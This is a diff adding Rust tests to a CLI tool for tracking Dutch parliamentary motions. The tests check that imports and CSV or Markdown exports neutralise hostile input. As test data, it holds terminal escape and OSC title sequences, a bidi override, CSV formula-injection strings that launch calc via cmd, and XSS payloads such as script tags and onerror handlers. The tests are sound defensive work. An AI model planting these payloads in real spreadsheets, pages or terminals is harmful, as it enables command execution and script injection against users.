@@ -6,7 +6,7 @@
 //! each run bounded by a generous deadline that fails the test instead of
 //! hanging the suite; the rest run the CLI in-process with the pinned clock.
 
-use crate::common::{ACTOR, Output, TestEnv, head_at, raw};
+use crate::common::{ACTOR, Output, TestEnv, head_at, raw, read_all, wait_for};
 use kamerstand::domain::invisible::shown_escaped;
 use kamerstand::domain::{Day, EventBody, EventId, ItemKind, Responsible, Timestamp};
 use std::path::{Path, PathBuf};
@@ -968,5 +968,693 @@ fn dates_before_1996_end_in_the_dutch_time_of_their_day() {
         );
         let j = env.json(&["overview", "--as-of", day]);
         assert_eq!(j["view"]["as_of"], instant, "{day}");
+    }
+}
+
+// ------------------------------------------- import files and exports
+
+/// A one-page annex: a title, the header, a `Moties` section with the
+/// given rows (tab-separated cells) and the footnote lines after them.
+fn annex(rows: &[&str], footnotes: &[&str]) -> String {
+    let mut s = String::from(
+        "**Stand van zaken\nProgramma Proef\n2025**\n\n\tStatus\tVerantwoordelijk\tStand van zaken\nMoties\t\t\t\n",
+    );
+    for r in rows {
+        s.push_str(r);
+        s.push('\n');
+    }
+    s.push('\n');
+    for f in footnotes {
+        s.push_str(f);
+        s.push_str("\n\n");
+    }
+    s
+}
+
+/// The annex rows of [`annex`] start on line 7.
+const FIRST_ROW: usize = 7;
+
+fn write_file(env: &TestEnv, name: &str, bytes: &[u8]) -> String {
+    let p = env.dir.path().join(name);
+    std::fs::write(&p, bytes).unwrap();
+    p.to_str().unwrap().to_string()
+}
+
+const ROW: &str = "Motie van het lid Jansen; De Tweede Kamer verzoekt de regering te oefenen. ¹\tIn uitvoering\tSBZK\tHet oefenen loopt.";
+const NOTE_1: &str = "¹ Kamerstukken II 2024/25, 36000, nr. 5.";
+
+/// Hostile input 5: an annex import applies the text checks the command
+/// line and the CSV import apply, to every field of every row (one place,
+/// `formats::ImportRow::checked`, for every format). A NUL byte, an escape
+/// sequence (ESC, OSC) or a 500 KB item text refuses the import with exit
+/// 2, naming the line and the field, and writes nothing; a footnote that
+/// is only too long to be a citation is left out with an anomaly.
+#[test]
+fn an_annex_import_checks_every_field_as_the_command_line_does() {
+    let env = TestEnv::init();
+    let before = env.head();
+    let long = format!(
+        "Motie van het lid Jansen; {} ¹\tIn uitvoering\tSBZK\tLoopt.",
+        "Een zeer lange motie. ".repeat(25_000)
+    );
+    let cases: Vec<(String, Vec<String>, &str, &str)> = vec![
+        (
+            ROW.replace("te oefenen", "te\u{0}oefenen"),
+            vec![NOTE_1.into()],
+            "text",
+            "U+0000",
+        ),
+        (
+            ROW.replace("te oefenen", "te \u{1b}[2J\u{1b}[Hoefenen"),
+            vec![NOTE_1.into()],
+            "text",
+            "U+001B",
+        ),
+        (
+            ROW.replace("loopt.", "loopt.\u{1b}]0;gekaapt\u{7}"),
+            vec![NOTE_1.into()],
+            "progress",
+            "U+001B",
+        ),
+        (
+            ROW.into(),
+            vec!["¹ Kamerstukken II 2024/25, 36000, nr. 5\u{1b}[31m.".into()],
+            "citations",
+            "U+001B",
+        ),
+        (
+            ROW.replace("Jansen", "Jan\u{202e}sen"),
+            vec![NOTE_1.into()],
+            "text",
+            "bidirectional",
+        ),
+        (long, vec![NOTE_1.into()], "text", "at most 65536 bytes"),
+    ];
+    for (row, notes, field, says) in &cases {
+        let notes: Vec<&str> = notes.iter().map(String::as_str).collect();
+        let path = write_file(&env, "bijlage.txt", annex(&[row], &notes).as_bytes());
+        for args in [&["import", &path][..], &["import", "--dry-run", &path]] {
+            let out = env.run(args);
+            out.refusal(
+                2,
+                &format!("{field} with {says}"),
+                &[
+                    &format!("invalid annex line {FIRST_ROW}, {field} '"),
+                    says,
+                    "Nothing was written.",
+                ],
+            );
+            assert_eq!(raw_control(&out.stderr), None, "{}", out.stderr);
+            assert_eq!(env.head(), before, "{field}: something was written");
+        }
+    }
+    // The same rules for the CSV import (its reader checks the cells first).
+    let path = write_file(&env, "a.csv", b"kind,text\nmotie,\"Een\x1b[2J motie.\"\n");
+    env.run(&["import", &path])
+        .refusal(2, "csv", &["CSV line 2, column text", "U+001B"]);
+    // A footnote that is a long remark rather than a citation: the item is
+    // recorded without it, and the anomaly says so.
+    let remark = format!(
+        "¹ Zie {}",
+        "de brief over de voortgang van het oefenen ".repeat(6)
+    );
+    let path = write_file(&env, "bijlage.txt", annex(&[ROW], &[&remark]).as_bytes());
+    let out = env.run(&["import", &path]);
+    out.ok();
+    assert!(
+        out.stdout.contains(&format!(
+            "line {FIRST_ROW}: citations: 'Zie de brief over de voortgang"
+        )) && out.stdout.contains("at most 200 bytes are accepted"),
+        "{}",
+        out.stdout
+    );
+    let item = &env.json(&["export"])["items"][0];
+    assert_eq!(item["citations"], serde_json::json!([]), "{item}");
+    assert_eq!(
+        item["text"],
+        "Motie van het lid Jansen; De Tweede Kamer verzoekt de regering te oefenen."
+    );
+}
+
+/// Hostile input 6, the import's own report: the file's name (and what an
+/// anomaly quotes of it) is shown through `text::visible`, in a dry run and
+/// a real one.
+#[test]
+fn the_import_report_shows_the_file_name_escaped() {
+    let env = TestEnv::init();
+    let path = write_file(
+        &env,
+        "bijlage\u{1b}]0;gekaapt\u{7}\u{1b}[2J.txt",
+        annex(&[ROW], &[NOTE_1]).as_bytes(),
+    );
+    for args in [&["import", "--dry-run", &path][..], &["import", &path]] {
+        let out = env.run(args);
+        out.ok();
+        assert_eq!(raw_control(&out.stdout), None, "{}", out.stdout);
+        assert!(
+            out.stdout
+                .contains("bijlage\\u{1b}]0;gekaapt\\u{7}\\u{1b}[2J.txt (annex)"),
+            "{}",
+            out.stdout
+        );
+    }
+}
+
+/// Items whose texts start the way spreadsheet formulas do, as a clerk (or
+/// someone who wants a clerk's spreadsheet to run a command) could type
+/// them.
+const FORMULAS: [&str; 7] = [
+    "=HYPERLINK(\"http://voorbeeld.invalid/?\"&A1,\"Klik\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "'=al gequote",
+    "''+twee quotes",
+    "Gewoon = geen formule",
+];
+
+/// Hostile input 7: `export --format csv` puts a single quote before every
+/// cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, tab,
+/// carriage return), and the CSV import takes exactly that quote off again:
+/// the export imported into a new store gives the same texts.
+#[test]
+fn csv_export_neutralises_formulas_and_the_import_reads_them_back() {
+    let env = TestEnv::init();
+    for (n, text) in FORMULAS.iter().enumerate() {
+        let key = format!("M{}", n + 1);
+        // (`--text=…`: a value that starts with '-' is no flag.)
+        env.add(&[
+            "--kind",
+            "motie",
+            "--key",
+            &key,
+            &format!("--text={text}"),
+            &format!("--submitter={text}"),
+            &format!("--ref-raw={text}"),
+        ]);
+        env.run(&["note", &key, "--", text]).ok();
+    }
+    let csv = env.run(&["--format", "csv", "export"]);
+    csv.ok();
+    let mut reader = ::csv::Reader::from_reader(csv.stdout.as_bytes());
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    for text in FORMULAS {
+        let guarded = if text
+            .trim_start_matches('\'')
+            .starts_with(['=', '+', '-', '@'])
+        {
+            format!("'{text}")
+        } else {
+            text.to_string()
+        };
+        assert!(
+            csv.stdout.contains(&guarded.replace('"', "\"\"")),
+            "{guarded}:\n{}",
+            csv.stdout
+        );
+    }
+    // Read back by our own import: the same texts, submitters, citations
+    // and notes.
+    let other = TestEnv::init();
+    let path = write_file(&other, "terug.csv", csv.stdout.as_bytes());
+    other.run(&["import", &path]).ok();
+    let strip = |v: serde_json::Value| -> Vec<serde_json::Value> {
+        v["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|i| {
+                serde_json::json!([
+                    i["key"],
+                    i["text"],
+                    i["submitters"],
+                    i["citations"],
+                    i["latest_note"]["text"]
+                ])
+            })
+            .collect()
+    };
+    let theirs = strip(other.json(&["export"]));
+    assert_eq!(theirs, strip(env.json(&["export"])));
+    assert_eq!(theirs[0][1], FORMULAS[0]);
+    assert_eq!(theirs[0][3][0]["raw"], FORMULAS[0]);
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig {
+        cases: 256,
+        failure_persistence: None,
+        ..proptest::prelude::ProptestConfig::default()
+    })]
+
+    /// Hostile input 7, as a property: any text the ledger can hold comes
+    /// back from a CSV export through the CSV import as it went out, in
+    /// every text column, however it starts.
+    #[test]
+    fn any_text_survives_a_csv_round_trip(
+        raw in "(?s)['=+@\\-\t\r \"]{0,3}.{0,40}",
+        short in "['=+@\\-]{0,3}[^\\p{C}]{1,20}",
+    ) {
+        use kamerstand::domain::text::{free_text, short_text};
+        let Ok(text) = free_text("text", &raw) else { return Ok(()) };
+        let Ok(name) = short_text("name", &short) else { return Ok(()) };
+        let view = one_item_view(&text, &name);
+        let mut out = Vec::new();
+        kamerstand::formats::csv::write(&view, &mut out).unwrap();
+        let csv = String::from_utf8(out).unwrap();
+        let (rows, anomalies) =
+            kamerstand::formats::csv::read(&csv, &kamerstand::domain::Legend::nap()).unwrap();
+        proptest::prop_assert!(anomalies.is_empty());
+        let r = &rows[0];
+        proptest::prop_assert_eq!(&r.text, &text);
+        proptest::prop_assert_eq!(r.progress.as_deref(), Some(text.as_str()));
+        proptest::prop_assert_eq!(&r.submitters, &vec![name.clone()]);
+        proptest::prop_assert_eq!(&r.citations, &vec![name.clone()]);
+        proptest::prop_assert_eq!(&r.progress_citations, &vec![name]);
+    }
+}
+
+/// A view of one motion with `text` as its text and note, `name` as its
+/// submitter and citations.
+fn one_item_view(text: &str, name: &str) -> kamerstand::projection::View {
+    use kamerstand::projection::view::{ChainAt, Programme};
+    use kamerstand::projection::{Basis, ItemView, NoteView, View};
+    let day = Day::parse("d", "2025-01-02").unwrap();
+    View {
+        basis: Basis::Current,
+        effective: None,
+        programme: Programme {
+            name: "NAP".into(),
+            title: "Stand".into(),
+            legend: kamerstand::domain::Legend::nap(),
+        },
+        chain: ChainAt::default(),
+        rounds: Vec::new(),
+        items: vec![ItemView {
+            id: EventId([1; 16]),
+            registered_seq: 1,
+            key: kamerstand::domain::ItemKey::parse("M1").unwrap(),
+            kind: ItemKind::Motie,
+            text: text.into(),
+            submitters: vec![name.into()],
+            citations: vec![name.into()],
+            effective: day,
+            withdrawn: false,
+            exists: true,
+            status: "in-uitvoering".into(),
+            responsible: Responsible::none(),
+            note: Some(NoteView {
+                seq: 2,
+                effective: day,
+                recorded_at: Timestamp::from_unix_nanos(0),
+                actor: "clerk".into(),
+                text: text.into(),
+                citations: vec![name.into()],
+            }),
+            tally: Default::default(),
+            deadline: None,
+            made_on: None,
+            made_in: None,
+            previous_responsible: None,
+        }],
+    }
+}
+
+/// Texts that would be live in rendered Markdown if passed on as they are.
+const ACTIVE: [&str; 8] = [
+    "<script>alert('x')</script>",
+    "<img src=x onerror=alert(1)>",
+    "[klik](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "![beeld](http://voorbeeld.invalid/x.png)",
+    "&#x3C;script&#x3E;",
+    "# kop\n> citaat\n- lijst\n1. genummerd\n---\n| a | b |",
+    "**vet** _schuin_ `code` ~~weg~~ <b>vet</b>",
+];
+
+/// Renders Markdown as CommonMark with GitHub's tables and strike-through,
+/// and returns the HTML.
+fn rendered(md: &str) -> String {
+    use pulldown_cmark::{Options, Parser, html};
+    let mut out = String::new();
+    html::push_html(
+        &mut out,
+        Parser::new_ext(md, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH),
+    );
+    out
+}
+
+/// The HTML elements rendered Markdown of ours may hold: what our own
+/// layout makes (headings, the tables, the legend list, the view line in
+/// italics, the diff's lists and quotes, keys in bold, `<br>` between
+/// paragraphs of a cell). Nothing a stored text says may add another.
+fn elements(html: &str) -> std::collections::BTreeSet<String> {
+    let mut out = std::collections::BTreeSet::new();
+    let mut rest = html;
+    while let Some(at) = rest.find('<') {
+        let tag: String = rest[at + 1..]
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '/')
+            .collect();
+        out.insert(tag.trim_start_matches('/').to_string());
+        rest = &rest[at + 1..];
+    }
+    out
+}
+
+/// Hostile input 8: the Markdown exports (`export --format md`, `diff
+/// --format md`) escape stored text: rendered by a CommonMark renderer,
+/// no raw HTML, link, image, autolink, heading, quote or list of a stored
+/// text survives, and every text shows as it was typed.
+#[test]
+fn markdown_exports_render_stored_text_as_text() {
+    let env = TestEnv::init();
+    env.run(&["round", "seal", "R1"]).ok();
+    for (n, text) in ACTIVE.iter().enumerate() {
+        let key = format!("M{}", n + 1);
+        env.add(&[
+            "--kind",
+            "motie",
+            "--key",
+            &key,
+            "--text",
+            text,
+            "--ref-raw",
+            &text.replace('\n', " "),
+        ]);
+        env.run(&["note", &key, text]).ok();
+    }
+    let annex = env.run(&["--format", "md", "export"]);
+    annex.ok();
+    let diff = env.run(&["--format", "md", "diff", "R1", "now", "--events"]);
+    diff.ok();
+    for (what, md, allowed) in [
+        (
+            "export",
+            &annex.stdout,
+            &[
+                "h1", "h2", "p", "em", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
+                "strong", "br", "hr",
+            ][..],
+        ),
+        (
+            "diff",
+            &diff.stdout,
+            &[
+                "h1",
+                "h2",
+                "h3",
+                "p",
+                "ul",
+                "li",
+                "strong",
+                "blockquote",
+                "br",
+                "hr",
+            ][..],
+        ),
+    ] {
+        let html = rendered(md);
+        let found = elements(&html);
+        let extra: Vec<&String> = found
+            .iter()
+            .filter(|e| !allowed.contains(&e.as_str()))
+            .collect();
+        assert!(extra.is_empty(), "{what}: elements {extra:?} in\n{html}");
+        for bad in ["<script", "<img", "href=", "<a ", "<b>", "<code", "<del"] {
+            assert!(!html.contains(bad), "{what}: {bad} in\n{html}");
+        }
+        for shown in [
+            "&lt;script&gt;alert('x')&lt;/script&gt;",
+            "&lt;img src=x onerror=alert(1)&gt;",
+            "[klik](javascript:alert(1))",
+            "&lt;javascript:alert(1)&gt;",
+            "&amp;#x3C;script&amp;#x3E;",
+            "**vet** _schuin_ `code` ~~weg~~ &lt;b&gt;vet&lt;/b&gt;",
+        ] {
+            assert!(
+                html.contains(shown),
+                "{what}: {shown} not shown as text in\n{html}"
+            );
+        }
+    }
+    // In the annex's table, every row is one row of four cells.
+    let rows = rendered(&annex.stdout).matches("<tr>").count();
+    assert_eq!(rows, ACTIVE.len() + 1, "{}", annex.stdout);
+}
+
+/// Hostile input 10: the import's path is linear. The curve (1, 10 and
+/// 100 MB annexes against reading the file) is the benchmark's
+/// `annexcurve` section (no test asserts time); this holds what the linear
+/// planner must still do with many rows that lost their text: matched to
+/// the items that lack it by position, every one, on a second import.
+#[test]
+fn many_rows_without_text_are_matched_by_position_on_a_second_import() {
+    let env = TestEnv::init();
+    let rows: Vec<String> = (0..600)
+        .map(|n| format!("\tIn uitvoering\tSBZK\tStand {n}."))
+        .collect();
+    let refs: Vec<&str> = rows.iter().map(String::as_str).collect();
+    let path = write_file(&env, "a.txt", annex(&refs, &[]).as_bytes());
+    env.run(&["import", &path]).ok();
+    // The next annex: every progress text changed, so none is matched by
+    // its text, and all by their places.
+    let next: Vec<String> = (0..600)
+        .map(|n| format!("\tIn uitvoering\tSBZK\tStand {n}, later."))
+        .collect();
+    let refs: Vec<&str> = next.iter().map(String::as_str).collect();
+    let path = write_file(&env, "b.txt", annex(&refs, &[]).as_bytes());
+    let out = env.run(&["import", &path]);
+    out.ok();
+    assert!(
+        out.stdout.contains("600 rows; 0 items added, 600 changed"),
+        "{}",
+        out.stdout
+    );
+    let list = env.json(&["export"]);
+    for (n, item) in list["items"].as_array().unwrap().iter().enumerate() {
+        assert_eq!(item["key"], format!("M{}", n + 1));
+        assert_eq!(item["latest_note"]["text"], format!("Stand {n}, later."));
+    }
+}
+
+/// A ledger with `n` motions whose texts are long enough that every export
+/// and most listings are far larger than a pipe's buffer.
+fn large_ledger(n: usize) -> TestEnv {
+    let env = TestEnv::init();
+    let mut csv = String::from("kind,key,text,progress\n");
+    for i in 1..=n {
+        csv.push_str(&format!(
+            "motie,M{i},\"{}\",\"{}\"\n",
+            "Een motie met een lange tekst. ".repeat(12),
+            "Een notitie. ".repeat(10)
+        ));
+    }
+    let path = write_file(&env, "groot.csv", csv.as_bytes());
+    env.run(&["import", &path]).ok();
+    env
+}
+
+/// Hostile input 12, a reader that goes away: every command whose output is
+/// piped into a reader that closes early (`… | head`) ends quietly with
+/// exit 0, through the real binary; `export --format events` and `--format
+/// csv` used to end with exit 1 and "storage failed".
+#[cfg(unix)]
+#[test]
+fn a_reader_that_closes_the_pipe_early_ends_every_command_quietly() {
+    use std::io::Read;
+    let env = large_ledger(400);
+    for args in [
+        &["--format", "events", "export"][..],
+        &["--format", "csv", "export"],
+        &["--format", "md", "export"],
+        &["--format", "html", "export"],
+        &["--format", "json", "export"],
+        &["log"],
+        &["--format", "json", "log"],
+        &["item", "list"],
+        &["overview"],
+    ] {
+        let mut child = env.command(args).spawn().unwrap();
+        let mut head = [0u8; 16];
+        child.stdout.take().unwrap().read_exact(&mut head).unwrap();
+        // The reading end is closed here, with most of the output unread.
+        let status = wait_for(&mut child);
+        let stderr = read_all(child.stderr.take());
+        assert_eq!(status.code(), Some(0), "{args:?}: {stderr}");
+        assert_eq!(stderr, "", "{args:?}");
+    }
+}
+
+/// Hostile input 12: an events file that starts with a UTF-8 byte-order
+/// mark (as Windows tools write) restores like one without it.
+#[test]
+fn an_events_file_with_a_byte_order_mark_is_restored() {
+    let source = TestEnv::init();
+    source.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
+    let dump = source.run(&["--format", "events", "export"]);
+    dump.ok();
+    let target = TestEnv::new();
+    let path = write_file(
+        &target,
+        "bom.jsonl",
+        format!("\u{feff}{}", dump.stdout).as_bytes(),
+    );
+    // Detected from the file and from standard input, and named.
+    target.run(&["import", &path]).ok();
+    assert_eq!(target.head(), source.head());
+    let piped = TestEnv::new();
+    piped
+        .run_with_input(
+            &["import", "-"],
+            format!("\u{feff}{}", dump.stdout).as_bytes(),
+        )
+        .ok();
+    assert_eq!(piped.head(), source.head());
+    let named = TestEnv::new();
+    named.run(&["--format", "events", "import", &path]).ok();
+    assert_eq!(named.head(), source.head());
+}
+
+/// Hostile input 12: CSV files with Windows line endings (what Excel
+/// writes) are named by the lines an editor shows, also after a quoted
+/// cell over two lines and with lone carriage returns.
+#[test]
+fn csv_errors_name_the_right_line_whatever_the_line_endings() {
+    let env = TestEnv::init();
+    for (name, text, line) in [
+        (
+            "lf.csv",
+            "kind,text,status\nmotie,Een,in-uitvoering\nmotie,Twee,klaar\n",
+            3,
+        ),
+        (
+            "crlf.csv",
+            "kind,text,status\r\nmotie,Een,in-uitvoering\r\nmotie,Twee,klaar\r\n",
+            3,
+        ),
+        (
+            "twee-regels.csv",
+            "kind,text,status\r\nmotie,\"Een\r\nlang\",in-uitvoering\r\nmotie,Twee,klaar\r\n",
+            4,
+        ),
+        (
+            "cr.csv",
+            "kind,text,status\rmotie,Een,in-uitvoering\rmotie,Twee,klaar\r",
+            3,
+        ),
+    ] {
+        let path = write_file(&env, name, text.as_bytes());
+        env.run(&["import", &path]).refusal(
+            2,
+            name,
+            &[&format!("invalid CSV line {line}, column status 'klaar'")],
+        );
+    }
+    let path = write_file(
+        &env,
+        "kort.csv",
+        b"kind,text,status\r\nmotie,Een,in-uitvoering\r\nmotie,Twee\r\n",
+    );
+    env.run(&["import", &path]).refusal(
+        2,
+        "short",
+        &["invalid CSV line 3 'a record of 2 fields': 3 fields as in the header"],
+    );
+}
+
+/// Hostile input 12: a CSV file saved as Windows-1252 ("CSV" in Excel,
+/// not "CSV UTF-8") is named as such, by the line of its first such byte
+/// and the character it stands for, with how to save it as UTF-8; bytes
+/// that are no text keep the plain message.
+#[test]
+fn a_windows_1252_csv_is_named_with_how_to_save_it_as_utf8() {
+    let env = TestEnv::init();
+    let path = write_file(
+        &env,
+        "excel.csv",
+        b"kind;key;text\r\nmotie;M5;Een motie\r\nmotie;M6;Caf\xe9 \x80 5\r\n",
+    );
+    env.run(&["import", &path]).refusal(
+        2,
+        "cp1252",
+        &[
+            "looks like Windows-1252 (Latin-1)",
+            "line 3 has byte 0xE9, 'é' in Windows-1252",
+            "CSV UTF-8",
+        ],
+    );
+    let path = write_file(&env, "junk.csv", b"kind,text\nmotie,\x00\xff\xfe\n");
+    env.run(&["import", &path])
+        .refusal(2, "junk", &["UTF-8 text (byte 17 is not)"]);
+}
+
+/// Hostile input 12: dates as a Dutch spreadsheet saves them (`15-5-2025`,
+/// `01-12-2024`) are read; a date that cannot be read (ambiguous: slashes
+/// or a two-digit year; no such day; out of range; no date) is an anomaly
+/// of its row, which is read as if the cell were empty, instead of a
+/// refusal of the whole file.
+#[test]
+fn dutch_dates_are_read_and_bad_ones_named_by_row() {
+    let env = TestEnv::init();
+    let path = write_file(
+        &env,
+        "nl.csv",
+        b"kind,key,text,effective,progress,progress_effective\n\
+motie,M1,Een,15-5-2025,Loopt,01-12-2024\n\
+motie,M2,Twee,2024-06-01,Ook,5/6/2025\n\
+motie,M3,Drie,15-5-25,,\n\
+motie,M4,Vier,31-02-2025,,\n\
+motie,M5,Vijf,1899-12-31,,\n\
+motie,M6,Zes,morgen,,\n",
+    );
+    let out = env.run(&["import", "--effective", "2025-01-03", &path]);
+    out.ok();
+    for (line, says) in [
+        (3, "column progress_effective: '5/6/2025' is ambiguous"),
+        (
+            4,
+            "column effective: '15-5-25' is ambiguous: its year has two digits",
+        ),
+        (
+            5,
+            "column effective: '31-02-2025' is not a day in the calendar",
+        ),
+        (
+            6,
+            "column effective: '1899-12-31' is not a day between 1900-01-01 and 2999-12-31",
+        ),
+        (7, "column effective: 'morgen' is not a date"),
+    ] {
+        assert!(
+            out.stdout.contains(&format!("line {line}: {says}")),
+            "{line}: {}",
+            out.stdout
+        );
+    }
+    // And the finding about the whole file: no row states a status.
+    assert!(out.stdout.contains("6 anomalies"), "{}", out.stdout);
+    assert!(
+        out.stdout.contains("file: no row states a status"),
+        "{}",
+        out.stdout
+    );
+    let shown = |key: &str| env.json(&["show", key]);
+    let eff = |key: &str| shown(key)["timeline"][0]["effective"].clone();
+    assert_eq!(eff("M1"), "2025-05-15");
+    assert_eq!(shown("M1")["latest_note"]["effective"], "2024-12-01");
+    assert_eq!(eff("M2"), "2024-06-01");
+    // Read as if empty: the row's own date, else the import's.
+    assert_eq!(shown("M2")["latest_note"]["effective"], "2024-06-01");
+    for key in ["M3", "M4", "M5", "M6"] {
+        assert_eq!(eff(key), "2025-01-03", "{key}");
     }
 }
